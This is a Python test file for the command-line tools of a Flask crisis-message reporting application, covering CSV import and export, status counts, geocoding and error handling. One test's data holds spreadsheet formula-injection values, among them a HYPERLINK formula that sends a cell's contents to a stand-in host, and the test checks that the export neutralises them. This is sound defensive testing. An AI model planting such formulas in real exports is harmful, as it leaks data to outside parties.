"""The stable commands, as somebody types them."""

import csv
import json
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from click.testing import Result
from flask import Flask

from config.settings import Settings
from reporting.app import create_app
from reporting.bootstrap import Program
from tests.conftest import AUTH_TOKEN

Run = Callable[..., Result]


@pytest.fixture
def run(app: Flask) -> Run:
    runner = app.test_cli_runner()
    return lambda *arguments: runner.invoke(args=[str(argument) for argument in arguments])


def write_csv(path: Path, header: list[str], rows: list[list[object]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([header, *rows])
    return path


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def counts(result: Result) -> dict[str, int]:
    assert result.exit_code == 0, result.output
    pairs = (line.split(": ") for line in result.stdout.splitlines() if ": " in line)
    return {name: int(value) for name, value in pairs if value.isdigit()}


def test_every_command_explains_itself(app: Flask, run: Run) -> None:
    for name in app.cli.list_commands(None):  # type: ignore[arg-type]
        result = run(name, "--help")
        assert result.exit_code == 0
        assert "Usage:" in result.output


def test_an_id_from_outside_is_no_formula_in_an_export(run: Run, campaign: int, tmp_path: Path) -> None:
    assert campaign
    ids = ['=HYPERLINK("http://e.example/?x="&A2,"open")', "@SUM(A1)", "-2+3", "<1@mail.example>", "-5"]
    file = write_csv(tmp_path / "in.csv", ["id", "text"], [[each, "no water"] for each in ids])
    assert counts(run("messages", "import", file, "--channel", "phone"))["added"] == len(ids)
    assert run("messages", "export", "-o", tmp_path / "out.csv").exit_code == 0
    found = [row["external_id"] for row in read_csv(tmp_path / "out.csv")]
    assert found == [f"'{ids[0]}", f"'{ids[1]}", f"'{ids[2]}", *ids[3:]]


def test_importing_twice_adds_nothing_and_status_adds_up(run: Run, campaign: int, tmp_path: Path) -> None:
    assert campaign
    rows = [
        [f"m{number}", f"no water {number}", f"+97798000{number:05d}", "2026-11-01T10:00:00Z"] for number in range(30)
    ]
    rows += [["m30", "", "", ""], ["", "no id", "", ""], ["m31", "bad time", "", "yesterday-ish"]]
    file = write_csv(tmp_path / "in.csv", ["id", "text", "sender", "received_at"], rows)
    assert counts(run("messages", "import", file, "--channel", "phone")) == {
        "read": 33,
        "added": 31,
        "known": 0,
        "refused": 2,
    }
    assert counts(run("messages", "import", file, "--channel", "phone"))["added"] == 0
    assert counts(run("work", "--until-empty"))["processed"] == 31
    status = json.loads(run("status", "--json").stdout)
    assert status == {
        "messages": 31,
        "reports": 30,
        "located": 0,
        "linked": 0,
        "waiting": 30,
        "set_aside": 0,
        "unprocessed": 0,
        "outbox": 0,
    }
    assert counts(run("messages", "replay")) == {"replayed": 0}


def test_the_export_has_no_number_and_no_word_of_anybody(run: Run, campaign: int, tmp_path: Path) -> None:
    assert campaign
    file = write_csv(tmp_path / "in.csv", ["id", "text", "sender"], [["m1", "secret words", "+9779800000001"]])
    run("messages", "import", file, "--channel", "phone")
    run("work", "--until-empty")
    assert run("messages", "export", "-o", tmp_path / "out.csv").exit_code == 0
    exported = (tmp_path / "out.csv").read_text()
    assert "secret" not in exported
    assert "9800000001" not in exported
    (row,) = read_csv(tmp_path / "out.csv")
    assert list(row) == ["external_id", "channel", "direction", "received_at", "state", "report"]
    assert (row["external_id"], row["channel"], row["direction"], row["state"]) == ("m1", "phone", "in", "processed")
    assert len(row["report"]) == 10


def test_the_text_column_can_be_renamed_and_the_first_that_is_not_empty_counts(
    run: Run, campaign: int, tmp_path: Path, program: Program
) -> None:
    assert campaign
    file = write_csv(tmp_path / "in.csv", ["id", "original", "english"], [["1", "dlo", "water"], ["2", "", "road"]])
    run("messages", "import", file, "--channel", "phone", "--text-column", "original", "--text-column", "english")
    with program.owner.begin() as connection:
        assert connection.exec_driver_sql("SELECT text FROM message ORDER BY id").scalars().all() == ["dlo", "road"]


def test_approved_reports_count_teach_and_come_in_once(run: Run, campaign: int, tmp_path: Path) -> None:
    assert campaign
    rows = [[f"r{number}", "water is short", 27.7 + number / 1e4, 85.3, "Patan Durbar"] for number in range(5)]
    rows += [["bad", "x", "north", 85.3, ""], ["far", "x", 91, 85.3, ""]]
    file = write_csv(tmp_path / "reports.csv", ["id", "text", "lat", "lon", "location"], rows)
    assert counts(run("reports", "import", file, "--approved")) == {"read": 7, "added": 5, "known": 0, "refused": 2}
    assert counts(run("reports", "import", file, "--approved"))["added"] == 0
    status = json.loads(run("status", "--json").stdout)
    assert (status["reports"], status["located"], status["waiting"]) == (5, 5, 0)
    ask = write_csv(tmp_path / "ask.csv", ["place", "lat"], [["Patan Durbar", "was here"], ["", ""]])
    assert run("geocode", ask, "--text-column", "place", "-o", tmp_path / "found.csv").exit_code == 0
    found = read_csv(tmp_path / "found.csv")
    assert list(found[0]) == ["place", "lat", "geo_lat", "lon", "radius_m", "confidence", "match", "area_code"]
    assert float(found[0]["geo_lat"]) == pytest.approx(27.7, abs=0.01)
    assert found[0]["lat"] == "was here"
    assert found[1]["lon"] == ""


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (["messages", "import", "{file}", "--channel", "x"], "no column id, text"),
        (["reports", "import", "{file}"], "no column id, text, lat, lon"),
        (["geocode", "{file}", "--text-column", "place", "-o", "{file}.out"], "no column"),
        (["gazetteer", "load", "{file}"], "no column"),
        (["areas", "load", "{file}", "--level", "1", "--code-field", "a", "--name-field", "b"], "not JSON"),
        (["campaign", "create", "Not A Slug", "--country", "NP", "--language", "ne"], "slug"),
        (["campaign", "create", "fine", "--country", "Nepal", "--language", "ne"], "country"),
        (["campaign", "create", "--from", "{file}"], "mapping"),
        (["release", "build", "--cube", "nonsense", "--period", "2026-11"], "cube"),
        (["release", "build", "--cube", "incidents", "--period", "soon"], "period"),
        (["release", "export", "99", "--format", "csv", "-o", "{file}.dir"], "99"),
        (["status", "--campaign", "elsewhere"], "no campaign 'elsewhere'"),
    ],
)
def test_bad_input_is_one_clear_line_and_exit_code_1(
    run: Run, campaign: int, tmp_path: Path, arguments: list[str], said: str
) -> None:
    assert campaign
    file = write_csv(tmp_path / "nonsense.csv", ["a", "b"], [["1", "2"]])
    result = run(*(argument.format(file=file) for argument in arguments))
    assert result.exit_code == 1
    assert said in result.output
    assert len(result.output.strip().splitlines()) == 1


def test_a_file_that_is_no_text_is_refused(run: Run, campaign: int, tmp_path: Path) -> None:
    assert campaign
    file = tmp_path / "binary.csv"
    file.write_bytes(b"id,text\n1,\xff\xfe\x00")
    result = run("messages", "import", file, "--channel", "x")
    assert result.exit_code == 1
    assert "UTF-8" in result.output


def test_the_list_of_channels_shows_addresses_and_no_secret(
    settings: Settings, database_url: str, redis_url: str
) -> None:
    token = "0123456789abcdef0123456789abcdef"
    channels = {"operator": {"adapter": "kannel", "tokens": [token]}}
    program = Program(replace(settings, channels=channels), database_url, redis_url)
    result = create_app(program).test_cli_runner().invoke(args=["channels", "list"])
    program.close()
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    assert lines[0] == "twilio  twilio  in, out"
    assert "  http://localhost/channels/twilio/sms" in lines
    assert lines[lines.index("operator  kannel  in") + 1] == "  http://localhost/channels/operator/sms/…"
    assert token not in result.output
    assert AUTH_TOKEN not in result.output
